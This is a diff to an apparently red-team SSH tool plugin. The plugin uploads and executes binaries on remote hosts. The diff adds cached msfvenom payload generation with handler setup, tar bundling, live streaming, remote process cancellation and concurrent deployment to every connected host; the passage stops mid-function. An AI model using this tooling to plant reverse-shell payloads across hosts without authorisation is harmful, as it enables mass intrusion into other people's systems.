@@ -3,33 +3,80 @@
 # PLUGIN_DESCRIPTION: Upload and execute binaries on remote hosts with msfvenom support
 # PLUGIN_VERSION: 1.0.0
 # PLUGIN_REQUIREMENTS: python3
+# PLUGIN_NO_TIMEOUT: true
 
 """Upload and execute binaries on remote hosts.
 
 Supports uploading local binaries, generating msfvenom payloads for the
 detected remote architecture, and executing them via the SSH control socket.
+Several files or a whole directory (a tool with its libraries) can be sent as
+one bundle: a tar stream that is staged, made executable, run and cleaned up
+in a single SSH channel instead of one round trip per step. ``--all-hosts``
+fans the same bundle out to every active connection concurrently, and
+``--stream`` shows long-running tools' output live instead of at exit.
 All operations are driven by CLI arguments passed from the plugin runner.
 """
 
 from __future__ import annotations
 
 import argparse
+import io
+import json
 import os
 import shlex
 import shutil
 import subprocess
 import sys
+import tarfile
 import tempfile
-from dataclasses import dataclass
+import threading
+import time
+from collections.abc import Callable, Sequence
+from concurrent.futures import ThreadPoolExecutor
+from dataclasses import asdict, dataclass, field
+from datetime import datetime
+from pathlib import Path
+from typing import IO, Any
 
-from lazyssh.console_instance import console
+from lazyssh.console_instance import console, get_ui_config
 
 try:  # pragma: no cover - logging may be unavailable when packaged separately
-    from lazyssh.logging_module import APP_LOGGER
+    from lazyssh.logging_module import APP_LOGGER, CONNECTION_LOG_DIR_TEMPLATE
 except Exception:  # pragma: no cover
     APP_LOGGER = None
-
-from lazyssh.plugins._arch_detection import RemoteArch, detect_remote_arch
+    CONNECTION_LOG_DIR_TEMPLATE = "/tmp/lazyssh/{connection_name}.d/logs"  # noqa: S108  # /tmp/lazyssh is the documented runtime directory
+
+try:  # pragma: no cover - optional Rich import for fallback modes
+    from rich import box
+    from rich.table import Table
+except ImportError:  # pragma: no cover - Rich disabled or unavailable
+    box = None  # type: ignore[assignment]  # fallback when Rich is unavailable
+    Table = None  # type: ignore[assignment,misc]  # fallback when Rich is unavailable
+
+from lazyssh.plugin_manager import iter_process_output
+from lazyssh.plugin_metrics import record_remote_command
+from lazyssh.plugins._arch_detection import RemoteArch
+from lazyssh.plugins._fingerprint import (
+    connection_fingerprint_path,
+    get_fingerprint,
+    load_fingerprint,
+)
+from lazyssh.plugins._payload_cache import cache_key, payload_cache
+from lazyssh.plugins._remote import RemoteTarget, all_targets, current_target
+from lazyssh.remote_hash import (
+    local_sha256,
+    parse_remote_sha256,
+    remote_sha256_command,
+    should_check,
+)
+
+STAGING_DIR = "/tmp/.lazyssh_exec"  # noqa: S108  # remote staging dir on target host, not local temp
+# Hosts uploaded to at once by ``--all-hosts`` (each gets its own SSH channel)
+DEFAULT_FANOUT_CONCURRENCY = 8
+# First stderr line of a streamed command, naming the remote PID to cancel on Ctrl-C
+PID_MARKER = "__lazyssh_pid__="
+# Seconds a cancelled remote process gets between SIGTERM and SIGKILL
+CANCEL_GRACE = 2
 
 # ---------------------------------------------------------------------------
 # Msfvenom integration
@@ -93,6 +140,30 @@ def generate_msfvenom_payload(config: MsfvenomConfig, output_path: str) -> bool:
         return False
 
 
+def generate_cached_payload(
+    config: MsfvenomConfig, output_path: str, *, use_cache: bool = True
+) -> bool:
+    """Write the payload for ``config`` to ``output_path``, reusing a cached one.
+
+    Payloads generated before with identical options are copied from the
+    payload cache instead of running msfvenom again; new ones are added to
+    it. Cache failures only cost a regeneration. Returns success.
+    """
+    cache = payload_cache() if use_cache else None
+    key = cache_key(asdict(config))
+    if cache is not None and cache.fetch(key, Path(output_path)):
+        console.print(f"[success]Payload reused from cache: {output_path}[/success]")
+        return True
+    if not generate_msfvenom_payload(config, output_path):
+        return False
+    if cache is not None:
+        try:
+            cache.store(key, Path(output_path), asdict(config))
+        except OSError as exc:
+            console.print(f"[dim]Payload not cached: {exc}[/dim]")
+    return True
+
+
 def get_handler_command(config: MsfvenomConfig) -> str:
     """Return msfconsole handler setup commands."""
     return (
@@ -109,8 +180,22 @@ def get_handler_command(config: MsfvenomConfig) -> str:
 # ---------------------------------------------------------------------------
 
 
-def _scp_upload(local_path: str, remote_path: str) -> bool:
-    """Upload file via SCP over control socket."""
+def _remote_copy_matches(local_path: str, remote_path: str) -> bool:
+    """Whether ``remote_path`` already holds the content of ``local_path``."""
+    if not should_check(local_path):
+        return False
+    exit_code, stdout, _ = _ssh_exec(remote_sha256_command(remote_path), timeout=60)
+    remote_digest = parse_remote_sha256(stdout) if exit_code == 0 else None
+    return remote_digest is not None and remote_digest == local_sha256(local_path)
+
+
+def _scp_upload(local_path: str, remote_path: str, *, dedup: bool = True) -> bool:
+    """Upload file via SCP over control socket.
+
+    With ``dedup`` the transfer is skipped when the destination already holds
+    identical content (see :mod:`lazyssh.remote_hash`). Callers that remove the
+    destination after every run pass ``dedup=False`` to avoid a pointless check.
+    """
     socket_path = os.environ.get("LAZYSSH_SOCKET_PATH", "")
     host = os.environ.get("LAZYSSH_HOST", "")
     user = os.environ.get("LAZYSSH_USER", "")
@@ -120,11 +205,16 @@ def _scp_upload(local_path: str, remote_path: str) -> bool:
         console.print("[error]Missing SSH environment variables for SCP upload[/error]")
         return False
 
+    if dedup and _remote_copy_matches(local_path, remote_path):
+        console.print(f"[dim]Identical copy already at {remote_path}, skipping transfer[/dim]")
+        return True
+
     cmd = ["scp", "-q", "-o", f"ControlPath={socket_path}"]
     if port:
         cmd.extend(["-P", port])
     cmd.extend([local_path, f"{user}@{host}:{remote_path}"])
 
+    record_remote_command()
     try:
         result = subprocess.run(  # noqa: S603,S607
             cmd,
@@ -162,6 +252,7 @@ def _ssh_exec(command: str, timeout: int = 300) -> tuple[int, str, str]:
     ssh_cmd.append(f"{user}@{host}")
     ssh_cmd.extend(["sh", "-c", shlex.quote(command)])
 
+    record_remote_command()
     try:
         result = subprocess.run(  # noqa: S603,S607
             ssh_cmd,
@@ -174,6 +265,142 @@ def _ssh_exec(command: str, timeout: int = 300) -> tuple[int, str, str]:
         return 1, "", "Command timed out"
 
 
+# ---------------------------------------------------------------------------
+# Streaming SSH exec
+# ---------------------------------------------------------------------------
+
+
+def _connection_log_dir(connection_name: str) -> Path:
+    """Log directory of ``connection_name``, created if needed.
+
+    Raises:
+        OSError: If the directory cannot be created.
+        ValueError: If the name contains invalid path characters (e.g. null bytes).
+    """
+    template = CONNECTION_LOG_DIR_TEMPLATE or "/tmp/lazyssh/{connection_name}.d/logs"  # noqa: S108  # /tmp/lazyssh is the documented runtime directory
+    path = Path(template.format(connection_name=connection_name))
+    path.mkdir(parents=True, exist_ok=True)
+    return path
+
+
+def cancel_script(pid: str) -> str:
+    """Remote shell script that stops a streamed command, its group first if it leads one."""
+    term = f"kill -TERM -- -{pid} 2>/dev/null || kill -TERM {pid} 2>/dev/null"
+    kill = f"kill -KILL -- -{pid} 2>/dev/null || kill -KILL {pid} 2>/dev/null"
+    return f"{term}; sleep {CANCEL_GRACE}; {kill}; true"
+
+
+def _cancel_remote(target: RemoteTarget, pid: str | None) -> None:
+    if not pid:
+        return
+    record_remote_command()
+    try:
+        subprocess.run(  # noqa: S603
+            target.ssh_command("sh", "-c", shlex.quote(cancel_script(pid))),
+            capture_output=True,
+            timeout=CANCEL_GRACE + 15,
+        )
+    except subprocess.TimeoutExpired:
+        console.print(f"[warning]Could not confirm remote process {pid} was stopped[/warning]")
+
+
+def _feed_stdin(pipe: IO[bytes], data: bytes) -> None:
+    try:
+        pipe.write(data)
+        pipe.close()
+    except OSError:  # remote side stopped reading, e.g. tar failed
+        pass
+
+
+def _ssh_stream(
+    command: str,
+    *,
+    data: bytes | None = None,
+    timeout: int = 300,
+    output_file: str | None = None,
+    target: RemoteTarget | None = None,
+) -> int:
+    """Run ``command`` remotely and stream its output live.
+
+    ``command`` must print :data:`PID_MARKER` and the PID of the process to
+    cancel as its first stderr line. Output is written to this process's
+    stdout/stderr as it arrives, stdout is teed to ``output_file`` and both
+    streams to an ``upload_exec_*.log`` in the connection log directory. Only
+    pipe buffers are held in memory. On Ctrl-C or timeout the remote process
+    is killed over the control socket. ``data`` is fed to the remote stdin.
+    A ``timeout`` of 0 or less means no limit.
+
+    Returns the remote exit code, 130 when interrupted or 1 on timeout.
+    """
+    target = target or current_target()
+    if target is None:
+        console.print("[error]Missing SSH environment variables[/error]")
+        return 1
+
+    sinks: list[IO[str]] = []
+    tee: IO[str] | None = None
+    log: IO[str] | None = None
+    try:
+        log_dir = _connection_log_dir(target.name)
+        stamp = datetime.now().strftime("%Y%m%d_%H%M%S")
+        log = (log_dir / f"upload_exec_{stamp}.log").open("w", encoding="utf-8")
+        sinks.append(log)
+    except (OSError, ValueError):
+        log = None
+    if output_file:
+        tee = open(output_file, "w", encoding="utf-8")  # noqa: SIM115  # closed in finally
+        sinks.append(tee)
+
+    record_remote_command()
+    process = subprocess.Popen(  # noqa: S603
+        target.ssh_command("sh", "-c", shlex.quote(command)),
+        stdin=subprocess.DEVNULL if data is None else subprocess.PIPE,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.PIPE,
+    )
+    if data is not None:
+        threading.Thread(target=_feed_stdin, args=(process.stdin, data), daemon=True).start()
+
+    pid: str | None = None
+    deadline = time.time() + timeout if timeout > 0 else float("inf")
+    try:
+        for kind, text in iter_process_output(process, deadline, lines=True):
+            if kind == "stderr" and pid is None and text.startswith(PID_MARKER):
+                pid = text[len(PID_MARKER) :].strip()
+                continue
+            stream = sys.stdout if kind == "stdout" else sys.stderr
+            stream.write(text)
+            stream.flush()
+            if log is not None:
+                log.write(text)
+                log.flush()
+            if tee is not None and kind == "stdout":
+                tee.write(text)
+                tee.flush()
+        return process.returncode
+    except KeyboardInterrupt:
+        console.print("\n[warning]Interrupted, stopping the remote process...[/warning]")
+        _cancel_remote(target, pid)
+        return 130
+    except TimeoutError:
+        console.print("[error]Command timed out, stopping the remote process...[/error]")
+        _cancel_remote(target, pid)
+        return 1
+    finally:
+        if process.poll() is None:
+            process.kill()
+        process.wait()
+        for pipe in (process.stdout, process.stderr):
+            if pipe is not None:  # pragma: no branch - both opened with PIPE
+                pipe.close()
+        for sink in sinks:
+            sink.close()
+        if log is not None:
+            console.print(f"[dim]Output logged to {log.name}[/dim]")
+        if tee is not None:
+            console.print(f"[success]Output saved to {output_file}[/success]")
+
+
 # ---------------------------------------------------------------------------
 # Core upload-and-execute flow
 # ---------------------------------------------------------------------------
@@ -181,7 +408,7 @@ def _ssh_exec(command: str, timeout: int = 300) -> tuple[int, str, str]:
 
 def _create_staging_dir() -> tuple[bool, str]:
     """Create remote staging directory. Returns (success, path)."""
-    staging = "/tmp/.lazyssh_exec"  # noqa: S108  # remote staging dir on target host, not local temp
+    staging = STAGING_DIR
     exit_code, _, stderr = _ssh_exec(f"mkdir -p {staging} && chmod 700 {staging}")
     if exit_code != 0:
         console.print(f"[error]Failed to create staging dir: {stderr}[/error]")
@@ -189,6 +416,30 @@ def _create_staging_dir() -> tuple[bool, str]:
     return True, staging
 
 
+def _report_output(
+    exit_code: int,
+    stdout: str,
+    stderr: str,
+    *,
+    output_file: str | None = None,
+    background: bool = False,
+) -> None:
+    """Print or save remote output and warn about a non-zero exit code."""
+    if stdout:
+        if output_file:
+            with open(output_file, "w") as f:
+                f.write(stdout)
+            console.print(f"[success]Output saved to {output_file}[/success]")
+        else:
+            console.print(stdout.rstrip())
+
+    if stderr:
+        console.print(f"[dim]{stderr.rstrip()}[/dim]")
+
+    if exit_code != 0 and not background:
+        console.print(f"[warning]Remote execution exited with code {exit_code}[/warning]")
+
+
 def upload_and_execute(
     local_path: str,
     *,
@@ -198,9 +449,11 @@ def upload_and_execute(
     timeout: int = 300,
     output_file: str | None = None,
     dry_run: bool = False,
+    stream: bool = False,
 ) -> int:
     """Upload a local file to the remote host and execute it.
 
+    With ``stream`` the output is shown live (see :func:`_ssh_stream`).
     Returns 0 on success, non-zero on failure.
     """
     if not os.path.isfile(local_path):
@@ -227,7 +480,8 @@ def upload_and_execute(
 
     # Upload
     console.print(f"[info]Uploading {filename} to {remote_path}...[/info]")
-    if not _scp_upload(local_path, remote_path):
+    # A cleaned-up staging dir never holds a previous copy worth hashing
+    if not _scp_upload(local_path, remote_path, dedup=no_cleanup or background):
         console.print("[error]Upload failed[/error]")
         return 1
     console.print("[success]Upload complete[/success]")
@@ -246,21 +500,15 @@ def upload_and_execute(
         exec_cmd = f"nohup {exec_cmd} > /dev/null 2>&1 &"
 
     console.print(f"[info]Executing: {exec_cmd}[/info]")
-    exit_code, stdout, stderr = _ssh_exec(exec_cmd, timeout=timeout)
-
-    if stdout:
-        if output_file:
-            with open(output_file, "w") as f:
-                f.write(stdout)
-            console.print(f"[success]Output saved to {output_file}[/success]")
-        else:
-            console.print(stdout.rstrip())
-
-    if stderr:
-        console.print(f"[dim]{stderr.rstrip()}[/dim]")
-
-    if exit_code != 0 and not background:
-        console.print(f"[warning]Remote execution exited with code {exit_code}[/warning]")
+    if stream and not background:
+        # exec keeps the reported PID that of the tool itself
+        command = f'echo "{PID_MARKER}$$" >&2; exec {exec_cmd} < /dev/null'
+        exit_code = _ssh_stream(command, timeout=timeout, output_file=output_file)
+        if exit_code not in (0, 130):
+            console.print(f"[warning]Remote execution exited with code {exit_code}[/warning]")
+    else:
+        exit_code, stdout, stderr = _ssh_exec(exec_cmd, timeout=timeout)
+        _report_output(exit_code, stdout, stderr, output_file=output_file, background=background)
 
     # Cleanup
     if not no_cleanup and not background:
@@ -270,6 +518,203 @@ def upload_and_execute(
     return exit_code if not background else 0
 
 
+# ---------------------------------------------------------------------------
+# Bundled upload-and-execute pipeline
+# ---------------------------------------------------------------------------
+
+
+def _reset_owner(info: tarfile.TarInfo) -> tarfile.TarInfo:
+    # Extracting as root would otherwise restore the local uid/gid on the target
+    info.uid = info.gid = 0
+    info.uname = info.gname = ""
+    return info
+
+
+def build_bundle(paths: Sequence[str], entry: str | None = None) -> tuple[bytes, str]:
+    """Pack ``paths`` into a gzipped tar bundle and resolve its entry point.
+
+    A directory contributes its contents at the bundle root, so ``entry`` is
+    relative to it; files and further directories are added under their
+    base names. Without ``entry`` the first path (which must be a file) runs.
+
+    Returns:
+        (archive bytes, entry path relative to the bundle root)
+
+    Raises:
+        ValueError: If a path is missing or the entry point is not a bundled file.
+    """
+    if not paths:
+        raise ValueError("Nothing to bundle")
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz", compresslevel=6) as archive:
+        for index, path in enumerate(paths):
+            if not os.path.exists(path):
+                raise ValueError(f"File not found: {path}")
+            root_dir = index == 0 and os.path.isdir(path)
+            if root_dir:
+                for dirpath, dirnames, filenames in os.walk(path):
+                    dirnames.sort()
+                    for name in sorted(filenames):
+                        local = os.path.join(dirpath, name)
+                        arcname = os.path.relpath(local, path).replace(os.sep, "/")
+                        archive.add(local, arcname=arcname, filter=_reset_owner)
+                continue
+            arcname = os.path.basename(os.path.normpath(path))
+            archive.add(path, arcname=arcname, filter=_reset_owner)
+        files = {info.name for info in archive.getmembers() if info.isfile()}
+    if entry is None:
+        if os.path.isdir(paths[0]):
+            raise ValueError("--entry is required when bundling a directory")
+        entry = os.path.basename(paths[0])
+    entry = entry.removeprefix("./")
+    if entry not in files:
+        raise ValueError(f"Entry point {entry} is not a file in the bundle")
+    return buffer.getvalue(), entry
+
+
+def bundle_script(
+    entry: str,
+    remote_args: str = "",
+    *,
+    staging: str = STAGING_DIR,
+    background: bool = False,
+    no_cleanup: bool = False,
+    report_pid: bool = False,
+) -> str:
+    """Remote shell script that unpacks a bundle from stdin and runs ``entry``.
+
+    The bundle is extracted into a private directory under ``staging``, the
+    entry point is made executable and run from the bundle directory, and the
+    directory is removed afterwards unless ``no_cleanup`` or ``background``.
+    The script exits with the entry point's exit code. With ``report_pid`` the
+    entry point's PID is reported as :data:`PID_MARKER` on stderr, so that a
+    cancelled or timed-out run only stops the entry point and still cleans up.
+    """
+    staging = shlex.quote(staging)
+    run = f"./{shlex.quote(entry)}"
+    if remote_args:
+        run = f"{run} {remote_args}"
+    if background:
+        run = f"nohup {run} > /dev/null 2>&1 &"
+        no_cleanup = True
+    elif report_pid:
+        run = f'{run} < /dev/null &\nchild=$!\necho "{PID_MARKER}$child" >&2\nwait $child'
+    else:
+        run = f"{run} < /dev/null"
+    lines = [
+        f"mkdir -p {staging} && chmod 700 {staging} || exit 1",
+        f"bundle=$(mktemp -d {staging}/bundle.XXXXXX) || exit 1",
+        'tar -xzf - -C "$bundle" || { rm -rf "$bundle"; exit 1; }',
+        f'cd "$bundle" && chmod +x {shlex.quote(entry)} || {{ rm -rf "$bundle"; exit 1; }}',
+        run,
+        "status=$?",
+    ]
+    if no_cleanup:
+        lines.append('echo "Bundle kept at $bundle" >&2')
+    else:
+        lines.append('cd / && rm -rf "$bundle"')
+    lines.append("exit $status")
+    return "\n".join(lines)
+
+
+def _pop_pid_marker(stderr: str) -> tuple[str | None, str]:
+    """The PID reported via :data:`PID_MARKER` in ``stderr``, and the other lines."""
+    pid: str | None = None
+    kept: list[str] = []
+    for line in stderr.splitlines(keepends=True):
+        if pid is None and line.startswith(PID_MARKER):
+            pid = line[len(PID_MARKER) :].strip()
+        else:
+            kept.append(line)
+    return pid, "".join(kept)
+
+
+def _ssh_pipe(
+    command: str, data: bytes, timeout: int = 300, target: RemoteTarget | None = None
+) -> tuple[int, str, str]:
+    """Run ``command`` remotely with ``data`` on its stdin, in one SSH channel.
+
+    ``target`` defaults to the connection the plugin runs for. If ``command``
+    reports a PID via :data:`PID_MARKER`, the line is left out of stderr and,
+    on timeout, that process is stopped over the control socket.
+    Returns (exit_code, stdout, stderr).
+
+    Raises:
+        TimeoutError: If the command does not finish within ``timeout`` seconds.
+    """
+    target = target or current_target()
+    if target is None:
+        return 1, "", "Missing SSH environment variables"
+
+    record_remote_command()
+    try:
+        result = subprocess.run(  # noqa: S603
+            target.ssh_command("sh", "-c", shlex.quote(command)),
+            input=data,
+            capture_output=True,
+            timeout=timeout,
+        )
+    except subprocess.TimeoutExpired as exc:
+        # Killing ssh leaves the remote process running; stop it so its bundle is removed
+        pid, _ = _pop_pid_marker((exc.stderr or b"").decode("utf-8", errors="replace"))
+        _cancel_remote(target, pid)
+        raise TimeoutError("Command timed out") from exc
+    _, stderr = _pop_pid_marker(result.stderr.decode("utf-8", errors="replace"))
+    return result.returncode, result.stdout.decode("utf-8", errors="replace"), stderr
+
+
+def bundle_and_execute(
+    paths: Sequence[str],
+    *,
+    entry: str | None = None,
+    remote_args: str = "",
+    no_cleanup: bool = False,
+    background: bool = False,
+    timeout: int = 300,
+    output_file: str | None = None,
+    dry_run: bool = False,
+    stream: bool = False,
+) -> int:
+    """Upload files or a directory as one bundle and run its entry point.
+
+    Staging, upload, chmod, execution and cleanup share a single SSH channel.
+    With ``stream`` the output is shown live (see :func:`_ssh_stream`).
+    Returns 0 on success, non-zero on failure.
+    """
+    try:
+        archive, entry = build_bundle(paths, entry)
+    except (OSError, ValueError) as exc:
+        console.print(f"[error]{exc}[/error]")
+        return 1
+
+    if dry_run:
+        console.print("[bold yellow]DRY-RUN mode — no changes will be made[/bold yellow]\n")
+        console.print(f"  Would bundle: {', '.join(paths)} ({len(archive)} bytes compressed)")
+        console.print(f"  Remote path:  {STAGING_DIR}/bundle.XXXXXX/")
+        console.print(f"  Execute with: ./{entry} {remote_args}".rstrip())
+        console.print(f"  Cleanup:      {'no' if no_cleanup else 'yes'}")
+        console.print(f"  Background:   {'yes' if background else 'no'}")
+        return 0
+
+    stream = stream and not background
+    script = bundle_script(
+        entry, remote_args, background=background, no_cleanup=no_cleanup, report_pid=True
+    )
+    console.print(f"[info]Uploading and executing bundle ({len(archive)} bytes): ./{entry}[/info]")
+    if stream:
+        exit_code = _ssh_stream(script, data=archive, timeout=timeout, output_file=output_file)
+        if exit_code not in (0, 130):
+            console.print(f"[warning]Remote execution exited with code {exit_code}[/warning]")
+        return exit_code
+    try:
+        exit_code, stdout, stderr = _ssh_pipe(script, archive, timeout=timeout)
+    except TimeoutError as exc:
+        console.print(f"[error]{exc}[/error]")
+        return 1
+    _report_output(exit_code, stdout, stderr, output_file=output_file, background=background)
+    return exit_code if not background else 0
+
+
 # ---------------------------------------------------------------------------
 # Msfvenom mode
 # ---------------------------------------------------------------------------
@@ -289,8 +734,10 @@ def msfvenom_mode(
     timeout: int = 300,
     output_file: str | None = None,
     dry_run: bool = False,
+    no_cache: bool = False,
+    stream: bool = False,
 ) -> int:
-    """Generate msfvenom payload and upload/execute it."""
+    """Generate msfvenom payload (or reuse a cached one) and upload/execute it."""
     if not shutil.which("msfvenom"):
         console.print("[error]msfvenom not found in PATH — install Metasploit first[/error]")
         return 1
@@ -333,7 +780,7 @@ def msfvenom_mode(
         tmp_path = tmp.name
 
     try:
-        if not generate_msfvenom_payload(config, tmp_path):
+        if not generate_cached_payload(config, tmp_path, use_cache=not no_cache):
             return 1
 
         # Display handler command
@@ -347,6 +794,7 @@ def msfvenom_mode(
             background=background,
             timeout=timeout,
             output_file=output_file,
+            stream=stream,
         )
     finally:
         # Clean up local temp payload
@@ -354,6 +802,367 @@ def msfvenom_mode(
             os.unlink(tmp_path)
 
 
+# ---------------------------------------------------------------------------
+# Fan-out across connections
+# ---------------------------------------------------------------------------
+
+
+@dataclass
+class HostRun:
+    """Outcome of uploading and executing on one host during an ``--all-hosts`` run."""
+
+    target: RemoteTarget
+    arch: str = ""
+    exit_code: int | None = None
+    stdout: str = ""
+    stderr: str = ""
+    duration: float = 0.0
+    error: str | None = None
+    log_path: Path | None = field(default=None, compare=False)
+
+    @property
+    def ok(self) -> bool:
+        return self.error is None and self.exit_code == 0
+
+    def to_dict(self) -> dict[str, Any]:
+        return {
+            "connection": self.target.name,
+            "host": self.target.host,
+            "user": self.target.user,
+            "arch": self.arch,
+            "exit_code": self.exit_code,
+            "duration": round(self.duration, 3),
+            "error": self.error,
+            "stdout": self.stdout,
+            "stderr": self.stderr,
+        }
+
+
+# (target, bundle archive, entry point) for one host of a fan-out
+FanoutJob = tuple[RemoteTarget, bytes, str]
+
+
+def _pool_map(function: Callable[[Any], Any], items: Sequence[Any], max_hosts: int) -> list[Any]:
+    if not items:
+        return []
+    with ThreadPoolExecutor(max_workers=max(1, min(max_hosts, len(items)))) as pool:
+        return list(pool.map(function, items))
+
+
+def fanout_execute(
+    jobs: Sequence[FanoutJob],
+    remote_args: str = "",
+    *,
+    timeout: int = 300,
+    background: bool = False,
+    no_cleanup: bool = False,
+    max_hosts: int = DEFAULT_FANOUT_CONCURRENCY,
+    on_host_done: Callable[[HostRun], None] | None = None,
+) -> list[HostRun]:
+    """Run bundle jobs concurrently, ``max_hosts`` at a time.
+
+    Every host gets one SSH channel over its own control master and its own
+    ``timeout``. A host that fails is reported in its :class:`HostRun`
+    instead of aborting the run. Results keep the order of ``jobs``.
+    """
+
+    def run(job: FanoutJob) -> HostRun:
+        target, archive, entry = job
+        script = bundle_script(
+            entry, remote_args, background=background, no_cleanup=no_cleanup, report_pid=True
+        )
+        start = time.monotonic()
+        try:
+            exit_code, stdout, stderr = _ssh_pipe(script, archive, timeout=timeout, target=target)
+        except TimeoutError as exc:
+            result = HostRun(target, duration=time.monotonic() - start, error=str(exc))
+        else:
+            result = HostRun(
+                target,
+                exit_code=exit_code,
+                stdout=stdout,
+                stderr=stderr,
+                duration=time.monotonic() - start,
+            )
+        if on_host_done is not None:
+            on_host_done(result)
+        return result
+
+    return _pool_map(run, jobs, max_hosts)
+
+
+def detect_arches(
+    targets: Sequence[RemoteTarget], max_hosts: int = DEFAULT_FANOUT_CONCURRENCY
+) -> dict[str, RemoteArch | str]:
+    """Architecture of every target by connection name, or the detection error.
+
+    Uses each connection's cached fingerprint, collecting it concurrently
+    where missing or stale.
+    """
+
+    def detect(target: RemoteTarget) -> RemoteArch | str:
+        try:
+            path = connection_fingerprint_path(target.name)
+            return get_fingerprint(target, path=path).remote_arch()
+        except RuntimeError as exc:
+            return str(exc)
+
+    return dict(
+        zip((target.name for target in targets), _pool_map(detect, targets, max_hosts), strict=True)
+    )
+
+
+def cached_arch(target: RemoteTarget) -> str:
+    """Raw architecture from the connection's cached fingerprint, or "" without one."""
+
+    fingerprint = load_fingerprint(connection_fingerprint_path(target.name), target)
+    return fingerprint.remote_arch().raw_arch if fingerprint is not None else ""
+
+
+def plan_payloads(
+    targets: Sequence[RemoteTarget],
+    arches: dict[str, RemoteArch | str],
+    payload: str | None = None,
+) -> tuple[dict[str, list[RemoteTarget]], list[HostRun]]:
+    """Group targets by the msfvenom payload they need.
+
+    Hosts sharing an architecture (or all hosts, with an explicit ``payload``)
+    share one payload, so it is generated once per group.
+
+    Returns:
+        (targets by payload name, failed runs for hosts without a payload)
+    """
+
+    groups: dict[str, list[RemoteTarget]] = {}
+    failed: list[HostRun] = []
+    for target in targets:
+        arch = arches.get(target.name, "no result")
+        if isinstance(arch, str):
+            failed.append(HostRun(target, error=f"Architecture detection failed: {arch}"))
+            continue
+        selected = payload or PAYLOAD_PRESETS.get(arch.msf_arch)
+        if not selected:
+            failed.append(
+                HostRun(
+                    target,
+                    arch=arch.raw_arch,
+                    error=f"No preset payload for architecture {arch.msf_arch}",
+                )
+            )
+            continue
+        groups.setdefault(selected, []).append(target)
+    return groups, failed
+
+
+def write_host_logs(runs: Sequence[HostRun], command: str) -> None:
+    """Save each host's output and exit code to its connection log directory."""
+
+    timestamp = datetime.now().strftime("%Y%m%d_%H%M%S")
+    for run in runs:
+        try:
+            path = _connection_log_dir(run.target.name) / f"upload_exec_{timestamp}.json"
+            path.write_text(
+                json.dumps({"command": command, **run.to_dict()}, indent=2), encoding="utf-8"
+            )
+        except (OSError, ValueError):  # ValueError for invalid path chars (e.g. null bytes)
+            continue
+        run.log_path = path
+
+
+def _status(run: HostRun) -> str:
+    return run.error if run.error is not None else f"exit {run.exit_code}"
+
+
+def _first_line(text: str) -> str:
+    return text.strip().splitlines()[0] if text.strip() else ""
+
+
+def render_fanout_plain(runs: Sequence[HostRun]) -> str:
+    lines = ["Upload & Execute Summary:"]
+    for run in runs:
+        output = _first_line(run.stdout) or _first_line(run.stderr)
+        line = (
+            f"  {run.target.name} ({run.target.host}) [{run.arch or '?'}] "
+            f"{_status(run)} in {run.duration:.1f}s"
+        )
+        lines.append(f"{line}: {output}" if output else line)
+    lines.append(f"{sum(run.ok for run in runs)}/{len(runs)} hosts succeeded")
+    return "\n".join(lines) + "\n"
+
+
+def render_fanout_rich(runs: Sequence[HostRun]) -> None:
+    table = Table(
+        title="Upload & Execute Summary",
+        box=box.ROUNDED,
+        expand=True,
+        show_header=True,
+        padding=(0, 1),
+    )
+    table.add_column("Connection", style="accent", no_wrap=True)
+    table.add_column("Arch", style="dim", no_wrap=True)
+    table.add_column("Status", no_wrap=True)
+    table.add_column("Time", justify="right", style="dim", no_wrap=True)
+    table.add_column("Output", style="foreground", overflow="fold", ratio=3)
+    for run in runs:
+        style = "success" if run.ok else "error"
+        table.add_row(
+            f"{run.target.name} ({run.target.host})",
+            run.arch or "?",
+            f"[{style}]{_status(run)}[/]",
+            f"{run.duration:.1f}s",
+            _first_line(run.stdout) or _first_line(run.stderr),
+        )
+    console.print(table)
+    console.print(f"[dim]{sum(run.ok for run in runs)}/{len(runs)} hosts succeeded[/dim]")
+
+
+def _report_host(run: HostRun) -> None:
+    if run.ok:
+        console.print(f"[dim]{run.target.name}: done in {run.duration:.1f}s[/dim]")
+    else:
+        console.print(f"[error]{run.target.name}: {_status(run)}[/error]")
+
+
+def _finish_fanout(runs: Sequence[HostRun], command: str, use_plain: bool) -> int:
+    write_host_logs(runs, command)
+    if use_plain:
+        console.print(render_fanout_plain(runs), markup=False)
+    else:
+        render_fanout_rich(runs)
+    console.print("[dim]Per-host output saved to each connection's log directory[/dim]")
+    return 0 if runs and all(run.ok for run in runs) else 1
+
+
+def upload_fanout(
+    targets: Sequence[RemoteTarget],
+    paths: Sequence[str],
+    *,
+    entry: str | None = None,
+    remote_args: str = "",
+    no_cleanup: bool = False,
+    background: bool = False,
+    timeout: int = 300,
+    max_hosts: int = DEFAULT_FANOUT_CONCURRENCY,
+    dry_run: bool = False,
+    use_plain: bool = False,
+) -> int:
+    """Upload and execute the same files on every target concurrently.
+
+    The bundle is built once and streamed to each host over its own control
+    master. Returns 0 when every host succeeded.
+    """
+    if not targets:
+        console.print("[error]No active connections[/error]")
+        return 1
+    try:
+        archive, entry = build_bundle(paths, entry)
+    except (OSError, ValueError) as exc:
+        console.print(f"[error]{exc}[/error]")
+        return 1
+
+    if dry_run:
+        console.print("[bold yellow]DRY-RUN mode — no changes will be made[/bold yellow]\n")
+        console.print(f"  Would bundle: {', '.join(paths)} ({len(archive)} bytes compressed)")
+        console.print(f"  Hosts:        {', '.join(target.name for target in targets)}")
+        console.print(f"  Execute with: ./{entry} {remote_args}".rstrip())
+        console.print(f"  Concurrency:  {max_hosts}")
+        return 0
+
+    console.print(f"[info]Running ./{entry} on {len(targets)} hosts...[/info]")
+    runs = fanout_execute(
+        [(target, archive, entry) for target in targets],
+        remote_args,
+        timeout=timeout,
+        background=background,
+        no_cleanup=no_cleanup,
+        max_hosts=max_hosts,
+        on_host_done=_report_host,
+    )
+    # Reading the cache costs no round trips; hosts without one show "?"
+    for run in runs:
+        run.arch = cached_arch(run.target)
+    return _finish_fanout(runs, f"./{entry} {remote_args}".rstrip(), use_plain)
+
+
+def msfvenom_fanout(
+    targets: Sequence[RemoteTarget],
+    *,
+    payload: str | None = None,
+    lhost: str | None = None,
+    lport: int = 4444,
+    encoder: str | None = None,
+    iterations: int = 1,
+    fmt: str = "elf",
+    no_cleanup: bool = False,
+    background: bool = False,
+    timeout: int = 300,
+    max_hosts: int = DEFAULT_FANOUT_CONCURRENCY,
+    dry_run: bool = False,
+    use_plain: bool = False,
+    no_cache: bool = False,
+) -> int:
